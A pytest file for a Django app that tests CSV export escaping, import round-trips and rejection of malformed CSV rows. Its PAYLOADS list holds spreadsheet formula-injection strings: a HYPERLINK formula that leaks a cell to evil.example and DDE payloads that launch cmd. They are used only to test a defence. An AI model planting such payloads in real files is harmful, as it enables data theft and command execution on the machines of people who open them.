"""Every CSV the app writes escapes formula payloads, and the importers read them back."""

import csv
import io

import pytest
from django.core.management import call_command

from coding.fileio import csv_cell, csv_uncell
from coding.models import Case, Coding
from coding.reliability.selectors import reliability_data, reliability_rows
from tests import factories

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_payload_is_written_with_a_leading_quote_and_read_back(payload):
    assert csv_cell(payload) == "'" + payload
    assert csv_uncell(csv_cell(payload)) == payload


@pytest.mark.parametrize("value", [-3, 2.5, "-3", "-3.25", "+7", "1e-5", 0])
def test_numbers_stay_numbers(value):
    assert csv_cell(value) == value


@pytest.mark.parametrize("text", ["'=already quoted", "''@twice", "'plain", "plain", "a=b"])
def test_texts_with_leading_quotes_round_trip_exactly(text):
    assert csv_uncell(csv_cell(text)) == text


def _cells(response) -> list[list[str]]:
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(response.getvalue().decode())))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_reader_export_escapes_case_fields_and_evidence(client, review, payload):
    review.is_published = True
    review.save()
    case = factories.CaseFactory(review=review, number="1", title=payload, source=payload,
                                 summary=payload)
    factories.consensus_for(case=case, values={"level": "local"}, evidence={"level": payload})

    rows = _cells(client.get(f"/reviews/{review.slug}/export.csv"))

    header, line = rows[0], rows[1]
    row = dict(zip(header, line, strict=True))
    for column in ("title", "summary", "source", "level_evidence"):
        assert row[column] == "'" + payload, column
    assert row["year"] == "2010"


@pytest.mark.parametrize("payload", PAYLOADS)
def test_dashboard_csv_escapes_countries(client, review, payload):
    review.is_published = True
    review.save()
    factories.CaseFactory(review=review, number="1", country=payload.strip())

    rows = _cells(client.get(f"/reviews/{review.slug}/dashboard/data/country.csv"))

    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + payload.strip() in cells
    assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in cells), cells


def test_export_cases_then_import_cases_gives_identical_cases(review, tmp_path):
    for number, payload in enumerate(PAYLOADS, start=1):
        factories.CaseFactory(review=review, number=str(number), title=payload.strip(),
                              country=payload.strip(), summary=payload.strip(),
                              source=payload.strip(), year=None if number % 2 else 1999)
    exported = tmp_path / "cases.csv"
    call_command("export_cases", review="demo", output=str(exported), stderr=io.StringIO())
    text = exported.read_text()
    assert "\n'=HYPERLINK" not in text and "'+cmd" in text
    fresh = factories.ReviewFactory(slug="fresh")
    factories.codebook_for(fresh)

    call_command("import_cases", str(exported), review="fresh", stdout=io.StringIO())

    def shape(slug):
        return sorted(
            (c.number, c.title, c.country, c.year, c.summary, c.source,
             sorted(a.name for a in c.service_areas.all()))
            for c in Case.objects.filter(review__slug=slug).prefetch_related("service_areas")
        )

    assert shape("fresh") == shape("demo")
    again = io.StringIO()
    call_command("export_cases", review="fresh", stdout=again)
    assert again.getvalue() == text


def test_export_codings_then_import_codings_with_payloads_gives_identical_reliability(
    review, tmp_path
):
    cases = [factories.CaseFactory(review=review, number=str(n)) for n in (1, 2)]
    coders = [factories.UserFactory(username=name) for name in ("ann", "ben")]
    for case in cases:
        for index, coder in enumerate(coders):
            factories.AssignmentFactory(case=case, coder=coder)
            factories.coding_with_values(
                case=case, coder=coder,
                values={"level": "local", "budget": -5 - index, "topic": PAYLOADS[index]},
            )
    exported = tmp_path / "codings.csv"
    call_command("export_codings", review="demo", output=str(exported), stderr=io.StringIO())
    assert "'=HYPERLINK" in exported.read_text() and ",-5," in exported.read_text()
    fresh = factories.ReviewFactory(slug="fresh")
    factories.codebook_for(fresh)
    for n in (1, 2):
        factories.CaseFactory(review=fresh, number=str(n))

    call_command("import_codings", str(exported), review="fresh", stdout=io.StringIO())

    texts = set(Coding.objects.filter(case__review=fresh).values_list("values__text", flat=True))
    assert {PAYLOADS[0], PAYLOADS[1]} <= texts
    original = reliability_rows(data=reliability_data(review=review), n_boot=50)
    assert reliability_rows(data=reliability_data(review=fresh), n_boot=50) == original
    again = io.StringIO()
    call_command("export_codings", review="fresh", stdout=again)
    assert again.getvalue() == exported.read_text()


def _cases_csv(tmp_path, body: str):
    path = tmp_path / "cases.csv"
    path.write_text("number,title,country,year,service_area,summary,source\n" + body)
    return path


def test_cases_file_with_an_unterminated_quote_is_refused_naming_the_row(review, tmp_path):
    from coding.fileio import ImportFailed
    from coding.models import Case
    from coding.reviews.importers import cases_import

    path = _cases_csv(tmp_path, '21,Library,UK,2015,Culture,,\n'
                                '22,"School meals,Sweden,,Education,,\n'
                                '23,Parks,UK,2016,Environment,,\n')
    with pytest.raises(ImportFailed) as error:
        cases_import(path=path, review_slug=review.slug)
    assert error.value.where == "row 3"
    assert error.value.reason.startswith("a quoted cell on this row has no closing quote")
    assert not Case.objects.filter(number__in=["21", "22", "23"]).exists()


def test_cases_file_with_a_short_row_is_refused_naming_the_row(review, tmp_path):
    from coding.fileio import ImportFailed
    from coding.models import Case
    from coding.reviews.importers import cases_import

    path = _cases_csv(tmp_path, "21,Library,UK,2015,Culture,,\n22,School meals,Sweden\n")
    with pytest.raises(ImportFailed) as error:
        cases_import(path=path, review_slug=review.slug)
    assert (error.value.where, error.value.reason) == (
        "row 3", "fewer fields than the header has columns (3 for 7); a field is missing "
        "(keep the commas of empty cells)")
    assert not Case.objects.filter(number__in=["21", "22"]).exists()
